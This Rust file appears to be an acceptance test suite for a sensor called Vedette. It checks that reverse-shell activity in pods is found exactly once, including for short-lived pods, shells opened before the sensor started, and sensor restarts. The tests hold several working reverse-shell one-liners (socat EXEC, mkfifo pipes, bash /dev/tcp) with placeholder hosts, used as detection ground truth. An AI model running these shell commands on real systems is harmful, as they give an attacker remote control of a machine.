//! Short lives, late starts and restarts: found, found once, and nothing that was stored is lost.

use std::collections::{BTreeMap, BTreeSet};
use std::sync::{Mutex, PoisonError};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use e2e::acceptance::{Bench, Found, Product, Shell, Watch, vedette_binary};
use e2e::node_or_skip;
use rustix::process::Signal;

/// Each test's Vedette watches the whole machine and would see the others' pods.
static MACHINE: Mutex<()> = Mutex::new(());

/// Longest wait for findings that are due.
const DUE: Duration = Duration::from_secs(10);

/// Waits until every pod of `pods` has a finding; all findings by pod after a moment more.
fn settled(watch: &Watch, pods: &[String]) -> Result<BTreeMap<String, Vec<Found>>> {
    let until = Instant::now() + DUE;
    loop {
        let mut by_pod: BTreeMap<String, Vec<Found>> = BTreeMap::new();
        for found in watch.all()? {
            by_pod.entry(found.pod().to_owned()).or_default().push(found);
        }
        if pods.iter().all(|pod| by_pod.contains_key(pod)) || Instant::now() > until {
            std::thread::sleep(Duration::from_millis(1_500));
            let mut last: BTreeMap<String, Vec<Found>> = BTreeMap::new();
            for found in watch.all()? {
                last.entry(found.pod().to_owned()).or_default().push(found);
            }
            return Ok(last);
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// What is wrong with the findings of `pods`: each one exactly, nobody else any.
fn once_each(by_pod: &BTreeMap<String, Vec<Found>>, pods: &[String]) -> Vec<String> {
    let missing = pods.iter().filter(|pod| !by_pod.contains_key(*pod)).map(|pod| format!("{pod}: missed"));
    let others =
        by_pod.iter().filter(|(pod, found)| !pods.contains(pod) || found.len() != 1).map(|(pod, found)| {
            let texts: Vec<_> = found.iter().map(|f| (f.text("/category"), f.text("/name"))).collect();
            format!("{pod:?}: {} findings: {texts:?}", found.len())
        });
    missing.chain(others).collect()
}

/// A shell of each kind.
const LINES: [(&str, &str); 5] = [
    ("exec", "exec socat TCP:{HOST}:{PORT} EXEC:/bin/sh"),
    ("pty", "exec socat TCP:{HOST}:{PORT} EXEC:/usr/bin/bash,pty,stderr,setsid"),
    ("nofork", "exec socat TCP:{HOST}:{PORT} EXEC:/bin/sh,nofork"),
    ("fifo", "mkfifo /tmp/f; sh -i </tmp/f 2>&1 | socat - TCP:{HOST}:{PORT} >/tmp/f"),
    ("bash", "exec bash -c 'exec 5<>/dev/tcp/{HOST}/{PORT}; exec sh <&5 >&5 2>&5'"),
];

fn open_all<'node>(bench: &Bench<'node>, prefix: &str) -> Result<Vec<Shell<'node>>> {
    let shells = LINES.iter().map(|(name, line)| Shell::start(bench, &format!("{prefix}-{name}"), line));
    let shells = shells.collect::<Result<Vec<_>>>()?;
    shells.iter().try_for_each(Shell::prove)?;
    Ok(shells)
}

fn pods(shells: &[Shell<'_>]) -> Vec<String> {
    shells.iter().map(|shell| shell.pod().to_owned()).collect()
}

#[test]
fn a_pod_that_lives_for_200_ms_is_named_in_full() -> Result<()> {
    let _alone = MACHINE.lock().unwrap_or_else(PoisonError::into_inner);
    let Some(node) = node_or_skip()? else { return Ok(()) };
    let product = Product::start(&vedette_binary()?, &node.folder().join("vedette"))?;
    let watch = product.watch();
    let bench = Bench::ground_truth(&node, &watch)?;
    let mut names = Vec::new();
    let mut ids = BTreeMap::new();
    for round in 0..6 {
        let line = "socat TCP:{HOST}:{PORT} EXEC:/bin/sh & sleep 0.2; exit 0";
        let shell = Shell::start(&bench, &format!("brief-{round}"), line)?;
        names.push(shell.pod().to_owned());
        ids.insert(shell.pod().to_owned(), shell.container().id.clone());
        shell.container().wait(DUE)?;
        // Nobody who asks the runtime later learns anything.
        shell.remove()?;
    }
    let by_pod = settled(&watch, &names)?;
    let mut wrong = once_each(&by_pod, &names);
    let (reference, digest) = bench.image();
    for found in by_pod.values().flatten() {
        for (pointer, should) in [
            ("/sourceProperties/Pod_Namespace", "acceptance"),
            ("/sourceProperties/Container_Name", "app"),
            ("/sourceProperties/Container_Image_Uri", reference),
            ("/sourceProperties/Container_Image_Id", digest),
            ("/vedette/container/id", ids.get(found.pod()).map_or("", String::as_str)),
        ] {
            if found.text(pointer) != should {
                wrong.push(format!(
                    "{}: {pointer} is {:?}, should be {should:?}",
                    found.pod(),
                    found.text(pointer)
                ));
            }
        }
    }
    ensure!(wrong.is_empty(), "{wrong:#?}");
    Ok(())
}

#[test]
fn shells_that_were_there_first_are_found() -> Result<()> {
    let _alone = MACHINE.lock().unwrap_or_else(PoisonError::into_inner);
    let Some(node) = node_or_skip()? else { return Ok(()) };
    let binary = vedette_binary()?;
    // The bench wants a watch; nobody answers it yet.
    let nobody = Watch::nobody();
    let bench = Bench::ground_truth(&node, &nobody)?;
    let shells = open_all(&bench, "before")?;
    std::thread::sleep(Duration::from_secs(1));
    let product = Product::start(&binary, &node.folder().join("vedette"))?;
    let watch = product.watch();
    let by_pod = settled(&watch, &pods(&shells))?;
    let mut wrong = once_each(&by_pod, &pods(&shells));
    for found in by_pod.values().flatten() {
        if found.finding.pointer("/vedette/coverage/fromSnapshot").is_none_or(|flag| flag != true) {
            wrong.push(format!("{}: not said to be older than the sensor", found.pod()));
        }
        if found.text("/sourceProperties/Container_Name") != "app" {
            wrong.push(format!("{}: no container's name", found.pod()));
        }
        let port = shells.iter().find(|shell| shell.pod() == found.pod()).map(|shell| shell.port);
        let peer = found.text("/vedette/session/endpoint/peer");
        if !port.is_some_and(|port| peer.ends_with(&format!(":{port}"))) {
            wrong.push(format!("{}: the peer is {peer:?}, its port should be {port:?}", found.pod()));
        }
    }
    ensure!(wrong.is_empty(), "{wrong:#?}");
    Ok(())
}

#[test]
fn a_restart_in_a_storm_loses_nothing_and_doubles_nothing() -> Result<()> {
    let _alone = MACHINE.lock().unwrap_or_else(PoisonError::into_inner);
    let Some(node) = node_or_skip()? else { return Ok(()) };
    let mut product = Product::start(&vedette_binary()?, &node.folder().join("vedette"))?;
    let nobody = Watch::nobody();
    let bench = Bench::ground_truth(&node, &nobody)?;
    let (storm, _container) = bench.pod("storm", "while :; do /bin/true; /bin/id >/dev/null; done")?;
    let mut shells: Vec<Shell<'_>> = Vec::new();
    let mut known: BTreeSet<String> = BTreeSet::new();
    let mut wrong = Vec::new();
    for (round, signal) in [Signal::TERM, Signal::KILL, Signal::KILL, Signal::TERM].into_iter().enumerate() {
        shells.extend(open_all(&bench, &format!("r{round}"))?);
        if signal == Signal::KILL && round == 2 {
            // In the middle: the last shells may not be stored yet.
        } else {
            let by_pod = settled(&product.watch(), &pods(&shells))?;
            wrong.extend(
                once_each(&by_pod, &pods(&shells)).into_iter().map(|what| format!("round {round}: {what}")),
            );
        }
        known.extend(product.watch().all()?.iter().map(|found| found.text("/name").to_owned()));
        product.end(signal)?;
        // While nobody watches.
        let line = "exec socat TCP:{HOST}:{PORT} EXEC:/bin/sh,pty";
        let shell = Shell::start(&bench, &format!("r{round}-unwatched"), line)?;
        shell.prove()?;
        shells.push(shell);
        product = product.restart(Signal::TERM).with_context(|| format!("after {signal:?}"))?;
        let by_pod = settled(&product.watch(), &pods(&shells))?;
        wrong.extend(
            once_each(&by_pod, &pods(&shells))
                .into_iter()
                .map(|what| format!("after {signal:?} {round}: {what}")),
        );
        let now: BTreeSet<String> =
            by_pod.values().flatten().map(|found| found.text("/name").to_owned()).collect();
        wrong.extend(known.difference(&now).map(|lost| format!("after {signal:?} {round}: {lost} is lost")));
    }
    shells.into_iter().try_for_each(Shell::remove)?;
    storm.remove()?;
    ensure!(wrong.is_empty(), "{wrong:#?}");
    Ok(())
}
